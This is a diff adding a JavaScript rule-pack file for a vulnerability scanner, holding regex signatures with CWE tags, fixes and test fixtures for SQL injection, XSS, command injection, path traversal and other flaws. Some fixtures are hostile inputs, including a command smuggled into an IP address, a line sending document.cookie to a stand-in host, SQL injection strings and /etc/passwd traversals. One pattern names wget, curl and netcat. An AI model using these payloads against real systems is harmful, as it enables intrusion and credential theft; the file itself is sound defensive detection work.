@@ -0,0 +1,1733 @@
+/**
+ * حزم القواعد المدمجة
+ * Built-in Rule Packs
+ * The stock rules in the declarative rule pack format, loaded by default
+ */
+
+(function (root) {
+    'use strict';
+
+    const BUILTIN_RULE_PACKS = {
+        vulnerabilities: [
+            {
+                name: 'core',
+                version: '1.0.0',
+                formatVersion: 1,
+                description: 'Language-independent signatures, used when the input language is unknown',
+                categories: {
+                    sql_injection: {
+                        keywords: ['sql', 'database', 'query', 'select', 'insert', 'update', 'delete'],
+                        context: ['user_input', 'parameter', 'request', 'form'],
+                        variants: [
+                            'union-based injection',
+                            'boolean-based injection',
+                            'time-based injection',
+                            'error-based injection',
+                            'stacked queries injection'
+                        ]
+                    },
+                    xss: {
+                        keywords: ['html', 'script', 'javascript', 'event', 'onclick', 'onload'],
+                        context: ['output', 'display', 'render', 'innerHTML', 'document.write'],
+                        variants: ['reflected XSS', 'stored XSS', 'DOM-based XSS', 'mXSS (mutated XSS)', 'Universal XSS (UXSS)']
+                    },
+                    command_injection: {
+                        keywords: ['exec', 'system', 'shell', 'command', 'bash', 'cmd'],
+                        context: ['system', 'shell', 'os', 'command', 'execute'],
+                        variants: ['OS Command Injection', 'Shell Injection', 'Code Injection', 'LDAP Injection', 'XPath Injection']
+                    },
+                    path_traversal: {
+                        keywords: ['path', 'file', 'directory', 'folder', 'read', 'open'],
+                        context: ['file_path', 'directory', 'include', 'require', 'import'],
+                        variants: ['Directory Traversal', 'Path Traversal', 'File Inclusion', 'Null Byte Injection', 'Unicode Traversal']
+                    },
+                    csrf: {
+                        keywords: ['form', 'post', 'token', 'validate', 'verify'],
+                        context: ['form', 'request', 'action', 'submit', 'method'],
+                        variants: ['Login CSRF', 'Session Fixation', 'Cross-Site Request Forgery', 'One-Click Attack', 'Smart CSRF']
+                    },
+                    deserialization: {
+                        keywords: ['serialize', 'deserialize', 'pickle', 'unserialize', 'object'],
+                        context: ['object', 'class', 'method', 'function', 'callback'],
+                        variants: [
+                            'PHP Deserialization',
+                            'Python Pickle Injection',
+                            'Java Deserialization',
+                            '.NET Deserialization',
+                            'Ruby YAML Deserialization'
+                        ]
+                    },
+                    server_side_request_forgery: {
+                        keywords: ['request', 'url', 'fetch', 'get', 'download', 'include'],
+                        context: ['http', 'request', 'url', 'fetch', 'download'],
+                        variants: ['Basic SSRF', 'Blind SSRF', 'Semi-Blind SSRF', 'XXE (XML External Entity)', 'Open Redirect']
+                    }
+                },
+                rules: [
+                    {
+                        id: 'core.sql-injection.union-select',
+                        title: 'UNION SELECT clause',
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: 'union\\s+select',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ['id=1 UNION SELECT password FROM users'] }
+                    },
+                    {
+                        id: 'core.sql-injection.or-tautology',
+                        title: "Quoted ' OR '1'='1 tautology",
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: '[\'"]\\s*or\\s*[\'"]1[\'"]\\s*=\\s*[\'"]1[\'"]',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ["' or '1'='1'"] }
+                    },
+                    {
+                        id: 'core.sql-injection.table-statement',
+                        title: 'DROP/DELETE/UPDATE/INSERT TABLE statement',
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: '\\b(drop|delete|update|insert)\\s+table',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ["'; DROP TABLE users"] }
+                    },
+                    {
+                        id: 'core.sql-injection.exec-call',
+                        title: 'exec()/execute() call',
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: '\\b(exec|execute)\\s*\\(',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ['EXEC(@sql)'] }
+                    },
+                    {
+                        id: 'core.sql-injection.trailing-comment',
+                        title: 'Trailing SQL comment',
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: '--\\s*$',
+                        flags: 'm',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ["admin'--"] }
+                    },
+                    {
+                        id: 'core.sql-injection.shutdown',
+                        title: 'SHUTDOWN command',
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: '\\bshutdown\\b',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ["'; SHUTDOWN --"] }
+                    },
+                    {
+                        id: 'core.sql-injection.xp-cmdshell',
+                        title: 'xp_cmdshell procedure',
+                        type: 'sql_injection',
+                        language: 'generic',
+                        pattern: '\\bxp_cmdshell\\b',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries or prepared statements; never build SQL from input',
+                        fixtures: { vulnerable: ["EXEC master..xp_cmdshell 'dir'"] }
+                    },
+                    {
+                        id: 'core.xss.script-tag',
+                        title: 'Inline <script> element',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: '<script\\b[^>]*>.*?<\\/script>',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<script>alert(1)</script>'] }
+                    },
+                    {
+                        id: 'core.xss.iframe',
+                        title: '<iframe> element',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: '<iframe\\b[^>]*>',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<iframe src="//evil.example">'] }
+                    },
+                    {
+                        id: 'core.xss.event-handler',
+                        title: 'Inline event handler attribute',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: '\\bon\\w+\\s*=\\s*["\'][^"\']*["\']',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<img src=x onerror="alert(1)">'] }
+                    },
+                    {
+                        id: 'core.xss.javascript-url',
+                        title: 'javascript: URL',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: 'javascript:',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<a href="javascript:alert(1)">'] }
+                    },
+                    {
+                        id: 'core.xss.eval',
+                        title: 'eval() call',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: '\\beval\\s*\\(',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['eval(input)'] }
+                    },
+                    {
+                        id: 'core.xss.document-cookie-location',
+                        title: 'document.cookie / document.location access',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: '\\bdocument\\.(cookie|location)\\b',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ["new Image().src = '//x?' + document.cookie"] }
+                    },
+                    {
+                        id: 'core.xss.window-location-open',
+                        title: 'window.location / window.open',
+                        type: 'xss',
+                        language: 'generic',
+                        pattern: '\\bwindow\\.(location|open)\\b',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['window.location = next'] }
+                    },
+                    {
+                        id: 'core.command-injection.chained-command',
+                        title: 'Chained shell command',
+                        type: 'command_injection',
+                        language: 'generic',
+                        pattern: '[;&|`$]\\s*(?:ls|cat|rm|mkdir|chmod|chown|wget|curl|nc|netcat|telnet|ssh)',
+                        flags: 'i',
+                        severity: 10,
+                        confidence: 0.7,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; pass arguments as a list and validate them against an allowlist',
+                        fixtures: { vulnerable: ['127.0.0.1; cat /etc/passwd'] }
+                    },
+                    {
+                        id: 'core.command-injection.exec-request',
+                        title: 'exec() on request data',
+                        type: 'command_injection',
+                        language: 'generic',
+                        pattern: '\\bexec\\s*\\(\\s*\\$_(?:GET|POST|REQUEST)\\[',
+                        flags: 'i',
+                        severity: 10,
+                        confidence: 0.7,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; pass arguments as a list and validate them against an allowlist',
+                        fixtures: { vulnerable: ["exec($_GET['cmd'])"] }
+                    },
+                    {
+                        id: 'core.command-injection.shell-exec',
+                        title: 'shell_exec() call',
+                        type: 'command_injection',
+                        language: 'generic',
+                        pattern: '\\bshell_exec\\s*\\(',
+                        flags: 'i',
+                        severity: 10,
+                        confidence: 0.7,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; pass arguments as a list and validate them against an allowlist',
+                        fixtures: { vulnerable: ['shell_exec($cmd)'] }
+                    },
+                    {
+                        id: 'core.command-injection.system',
+                        title: 'system() call',
+                        type: 'command_injection',
+                        language: 'generic',
+                        pattern: '\\bsystem\\s*\\(',
+                        flags: 'i',
+                        severity: 10,
+                        confidence: 0.7,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; pass arguments as a list and validate them against an allowlist',
+                        fixtures: { vulnerable: ['system($cmd)'] }
+                    },
+                    {
+                        id: 'core.command-injection.popen',
+                        title: 'popen() call',
+                        type: 'command_injection',
+                        language: 'generic',
+                        pattern: '\\bpopen\\s*\\(',
+                        flags: 'i',
+                        severity: 10,
+                        confidence: 0.7,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; pass arguments as a list and validate them against an allowlist',
+                        fixtures: { vulnerable: ["popen($cmd, 'r')"] }
+                    },
+                    {
+                        id: 'core.command-injection.backticks',
+                        title: 'Backtick command substitution',
+                        type: 'command_injection',
+                        language: 'generic',
+                        pattern: '`[^`]*`',
+                        flags: 'i',
+                        severity: 10,
+                        confidence: 0.7,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; pass arguments as a list and validate them against an allowlist',
+                        fixtures: { vulnerable: ['`ls $dir`'] }
+                    },
+                    {
+                        id: 'core.path-traversal.dot-dot-slash',
+                        title: '../ sequence',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: '\\.\\.[\\/\\\\]',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['../../etc/passwd'] }
+                    },
+                    {
+                        id: 'core.path-traversal.encoded',
+                        title: 'URL-encoded ../',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: '%2e%2e%2f',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['%2e%2e%2fetc%2fpasswd'] }
+                    },
+                    {
+                        id: 'core.path-traversal.double-encoded',
+                        title: 'Double-encoded ../',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: '%252e%252e%252f',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['%252e%252e%252fetc'] }
+                    },
+                    {
+                        id: 'core.path-traversal.mixed-encoded',
+                        title: 'Partially encoded ../',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: '\\.\\.%2f',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['..%2fetc%2fpasswd'] }
+                    },
+                    {
+                        id: 'core.path-traversal.etc-passwd',
+                        title: '/etc/passwd reference',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: 'etc\\/passwd',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['/etc/passwd'] }
+                    },
+                    {
+                        id: 'core.path-traversal.boot-ini',
+                        title: 'boot.ini reference',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: 'boot\\.ini',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['c:\\boot.ini'] }
+                    },
+                    {
+                        id: 'core.path-traversal.system32',
+                        title: 'windows/system32 reference',
+                        type: 'path_traversal',
+                        language: 'generic',
+                        pattern: 'windows\\/system32',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.7,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path and verify it stays inside the allowed base directory',
+                        fixtures: { vulnerable: ['c:/windows/system32/cmd.exe'] }
+                    },
+                    {
+                        id: 'core.csrf.state-changing-form',
+                        title: 'State-changing form',
+                        type: 'csrf',
+                        language: 'generic',
+                        pattern: '<form[^>]*method\\s*=\\s*["\']?(?:post|put|delete)["\']?[^>]*>',
+                        flags: 'i',
+                        severity: 7,
+                        confidence: 0.7,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['<form method="post" action="/transfer">'] }
+                    },
+                    {
+                        id: 'core.csrf.token-reference',
+                        title: 'CSRF token handling',
+                        type: 'csrf',
+                        language: 'generic',
+                        pattern: '\\b(csrf_token|xsrf_token)\\b',
+                        flags: 'i',
+                        severity: 7,
+                        confidence: 0.7,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['<input name="csrf_token">'] }
+                    },
+                    {
+                        id: 'core.csrf.referer-check',
+                        title: 'Referer-based check',
+                        type: 'csrf',
+                        language: 'generic',
+                        pattern: '\\breferer\\s*=',
+                        flags: 'i',
+                        severity: 7,
+                        confidence: 0.7,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['referer = req.headers.referer'] }
+                    },
+                    {
+                        id: 'core.csrf.origin-check',
+                        title: 'Origin-based check',
+                        type: 'csrf',
+                        language: 'generic',
+                        pattern: '\\borigin\\s*=',
+                        flags: 'i',
+                        severity: 7,
+                        confidence: 0.7,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['origin = req.headers.origin'] }
+                    },
+                    {
+                        id: 'core.csrf.with-credentials',
+                        title: 'Credentialed cross-origin request',
+                        type: 'csrf',
+                        language: 'generic',
+                        pattern: '\\bwithCredentials\\s*=',
+                        flags: 'i',
+                        severity: 7,
+                        confidence: 0.7,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['xhr.withCredentials = true'] }
+                    },
+                    {
+                        id: 'core.deserialization.deserialize-call',
+                        title: 'Deserialization call',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: '\\b(unserialize|json_decode|yaml_parse|pickle_loads)\\s*\\(',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ['unserialize($data)'] }
+                    },
+                    {
+                        id: 'core.deserialization.phar-wrapper',
+                        title: 'phar:// stream wrapper',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: '\\bphar:\\/\\/',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ["file_exists('phar://upload.jpg')"] }
+                    },
+                    {
+                        id: 'core.deserialization.php-object',
+                        title: 'Serialized PHP object',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: 'O:\\d+:',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ['O:8:"stdClass":0:{}'] }
+                    },
+                    {
+                        id: 'core.deserialization.php-array',
+                        title: 'Serialized PHP array',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: 'a:\\d+:',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ['a:1:{i:0;s:1:"x";}'] }
+                    },
+                    {
+                        id: 'core.deserialization.suppressed-eval',
+                        title: '@eval() call',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: '@eval\\s*\\(',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ['@eval($code)'] }
+                    },
+                    {
+                        id: 'core.deserialization.wakeup',
+                        title: '__wakeup magic method',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: '\\b__wakeup\\b',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ['function __wakeup()'] }
+                    },
+                    {
+                        id: 'core.deserialization.destruct',
+                        title: '__destruct magic method',
+                        type: 'deserialization',
+                        language: 'generic',
+                        pattern: '\\b__destruct\\b',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Deserialize only trusted data, with a safe format such as JSON',
+                        fixtures: { vulnerable: ['function __destruct()'] }
+                    },
+                    {
+                        id: 'core.server-side-request-forgery.fetch-request-url',
+                        title: 'Server-side fetch of a request URL',
+                        type: 'server_side_request_forgery',
+                        language: 'generic',
+                        pattern: '\\b(file_get_contents|curl_exec|wget|fsockopen)\\s*\\(\\s*\\$_(?:GET|POST|REQUEST)',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate outbound URLs against an allowlist of hosts and schemes',
+                        fixtures: { vulnerable: ["file_get_contents($_GET['url'])"] }
+                    },
+                    {
+                        id: 'core.server-side-request-forgery.urlopen',
+                        title: 'urlopen()/urlretrieve() call',
+                        type: 'server_side_request_forgery',
+                        language: 'generic',
+                        pattern: '\\b(urlopen|urlretrieve)\\s*\\(',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate outbound URLs against an allowlist of hosts and schemes',
+                        fixtures: { vulnerable: ['urlopen(url)'] }
+                    },
+                    {
+                        id: 'core.server-side-request-forgery.http-client',
+                        title: '.NET HTTP client',
+                        type: 'server_side_request_forgery',
+                        language: 'generic',
+                        pattern: '\\b(HttpRequest|WebClient)\\s*\\(',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate outbound URLs against an allowlist of hosts and schemes',
+                        fixtures: { vulnerable: ['new WebClient()'] }
+                    },
+                    {
+                        id: 'core.server-side-request-forgery.localhost-url',
+                        title: 'localhost URL',
+                        type: 'server_side_request_forgery',
+                        language: 'generic',
+                        pattern: 'https?:\\/\\/localhost',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate outbound URLs against an allowlist of hosts and schemes',
+                        fixtures: { vulnerable: ['http://localhost:8080/admin'] }
+                    },
+                    {
+                        id: 'core.server-side-request-forgery.file-url',
+                        title: 'file:// URL',
+                        type: 'server_side_request_forgery',
+                        language: 'generic',
+                        pattern: 'file:\\/\\/',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate outbound URLs against an allowlist of hosts and schemes',
+                        fixtures: { vulnerable: ['file:///etc/passwd'] }
+                    },
+                    {
+                        id: 'core.server-side-request-forgery.dict-url',
+                        title: 'dict:// URL',
+                        type: 'server_side_request_forgery',
+                        language: 'generic',
+                        pattern: 'dict:\\/\\/',
+                        flags: 'i',
+                        severity: 9,
+                        confidence: 0.7,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate outbound URLs against an allowlist of hosts and schemes',
+                        fixtures: { vulnerable: ['dict://127.0.0.1:11211/stat'] }
+                    }
+                ]
+            },
+            {
+                name: 'php',
+                version: '1.0.0',
+                formatVersion: 1,
+                description: 'PHP sources, sinks and sanitizers',
+                rules: [
+                    {
+                        id: 'php.command',
+                        title: 'OS command execution',
+                        type: 'command_injection',
+                        language: 'php',
+                        pattern: '\\b(?:exec|shell_exec|system|passthru|popen|proc_open|pcntl_exec)\\s*\\(',
+                        requiresSource: true,
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Avoid the shell; if unavoidable, wrap every argument in escapeshellarg()',
+                        fixtures: { vulnerable: ['<?php system("ping " . $_GET[\'host\']);'], safe: ['<?php system("uptime");'] }
+                    },
+                    {
+                        id: 'php.backtick',
+                        title: 'Backtick shell execution',
+                        type: 'command_injection',
+                        language: 'php',
+                        pattern: '`[^`$]*\\$[^`]*`',
+                        requiresSource: true,
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Replace backticks with an API call or escapeshellarg()',
+                        fixtures: { vulnerable: ["<?php $files = `ls {$_GET['dir']}`;"], safe: ['<?php $files = `ls /tmp`;'] }
+                    },
+                    {
+                        id: 'php.sql',
+                        title: 'SQL query built from a string',
+                        type: 'sql_injection',
+                        language: 'php',
+                        pattern: '(?:\\b(?:mysql_query|mysqli_query|mysqli_multi_query|pg_query|sqlite_query)|->(?:query|exec))\\s*\\(',
+                        when: '(?:"[^"]*\\$\\w+|["\']\\s*\\.|\\.\\s*["\'])',
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use prepared statements with bound parameters (PDO::prepare / mysqli::prepare)',
+                        fixtures: {
+                            vulnerable: ['<?php mysqli_query($db, "SELECT * FROM users WHERE id = " . $_GET[\'id\']);'],
+                            safe: ["<?php $stmt = $db->prepare('SELECT * FROM users WHERE id = ?');"]
+                        }
+                    },
+                    {
+                        id: 'php.echo',
+                        title: 'Unescaped output',
+                        type: 'xss',
+                        language: 'php',
+                        pattern: '(?:\\b(?:echo|print)\\b|<\\?=|\\bprintf\\s*\\()',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: "Escape output with htmlspecialchars($value, ENT_QUOTES, 'UTF-8')",
+                        fixtures: {
+                            vulnerable: ["<?php echo $_GET['name'];"],
+                            safe: ["<?php echo htmlspecialchars($_GET['name'], ENT_QUOTES, 'UTF-8');"]
+                        }
+                    },
+                    {
+                        id: 'php.eval',
+                        title: 'Dynamic code evaluation',
+                        type: 'code_injection',
+                        language: 'php',
+                        pattern: '\\b(?:eval|assert|create_function)\\s*\\(',
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-95',
+                        owasp: 'A03:2021',
+                        fix: 'Remove eval(); map inputs to predefined behavior instead',
+                        fixtures: { vulnerable: ['<?php eval($code);'], safe: ['<?php $result = evaluate($expression);'] }
+                    },
+                    {
+                        id: 'php.include',
+                        title: 'Dynamic file inclusion',
+                        type: 'file_inclusion',
+                        language: 'php',
+                        pattern: '\\b(?:include|require)(?:_once)?\\b',
+                        requiresSource: true,
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-98',
+                        owasp: 'A03:2021',
+                        fix: 'Include files from a fixed allowlist only',
+                        fixtures: { vulnerable: ["<?php include $_GET['page'] . '.php';"], safe: ["<?php include 'header.php';"] }
+                    },
+                    {
+                        id: 'php.file',
+                        title: 'File access with a user-controlled path',
+                        type: 'path_traversal',
+                        language: 'php',
+                        pattern: '\\b(?:fopen|file_get_contents|file_put_contents|readfile|file|unlink|opendir)\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve the path with realpath() and verify it stays inside the allowed directory',
+                        fixtures: {
+                            vulnerable: ["<?php readfile('/var/data/' . $_GET['file']);"],
+                            safe: ["<?php readfile('/var/data/' . basename($_GET['file']));"]
+                        }
+                    },
+                    {
+                        id: 'php.unserialize',
+                        title: 'Unsafe deserialization',
+                        type: 'deserialization',
+                        language: 'php',
+                        pattern: '\\bunserialize\\s*\\(',
+                        requiresSource: true,
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: "Use json_decode() or pass ['allowed_classes' => false]",
+                        fixtures: {
+                            vulnerable: ["<?php $state = unserialize($_COOKIE['state']);"],
+                            safe: ["<?php $state = json_decode($_COOKIE['state'], true);"]
+                        }
+                    },
+                    {
+                        id: 'php.redirect',
+                        title: 'Redirect to a user-controlled URL',
+                        type: 'open_redirect',
+                        language: 'php',
+                        pattern: '\\bheader\\s*\\(\\s*["\']Location:',
+                        flags: 'i',
+                        requiresSource: true,
+                        severity: 6,
+                        confidence: 0.9,
+                        cwe: 'CWE-601',
+                        owasp: 'A01:2021',
+                        fix: 'Redirect only to relative paths or an allowlist of hosts',
+                        fixtures: {
+                            vulnerable: ["<?php header('Location: ' . $_GET['next']);"],
+                            safe: ["<?php header('Location: /dashboard');"]
+                        }
+                    }
+                ]
+            },
+            {
+                name: 'python',
+                version: '1.0.0',
+                formatVersion: 1,
+                description: 'Python, Flask and Django',
+                rules: [
+                    {
+                        id: 'python.subprocess-shell',
+                        title: 'subprocess call with shell=True',
+                        type: 'command_injection',
+                        language: 'python',
+                        pattern: '\\bsubprocess\\.(?:call|run|Popen|check_call|check_output|getoutput|getstatusoutput)\\s*\\(',
+                        when: '\\bshell\\s*=\\s*True\\b',
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Pass an argument list and drop shell=True; use shlex.quote() if a shell is required',
+                        fixtures: { vulnerable: ['subprocess.call(cmd, shell=True)'], safe: ["subprocess.call(['ls', '-l'])"] }
+                    },
+                    {
+                        id: 'python.os-command',
+                        title: 'OS command execution',
+                        type: 'command_injection',
+                        language: 'python',
+                        pattern: '\\bos\\.(?:system|popen|spawn\\w*|exec\\w*)\\s*\\(',
+                        requiresSource: true,
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Use subprocess.run() with an argument list instead of a shell string',
+                        fixtures: { vulnerable: ["os.system('ping ' + request.args['host'])"], safe: ["os.system('uptime')"] }
+                    },
+                    {
+                        id: 'python.eval',
+                        title: 'Dynamic code evaluation',
+                        type: 'code_injection',
+                        language: 'python',
+                        pattern: '(?<![\\w.])(?:eval|exec|compile)\\s*\\(',
+                        requiresSource: true,
+                        severity: 10,
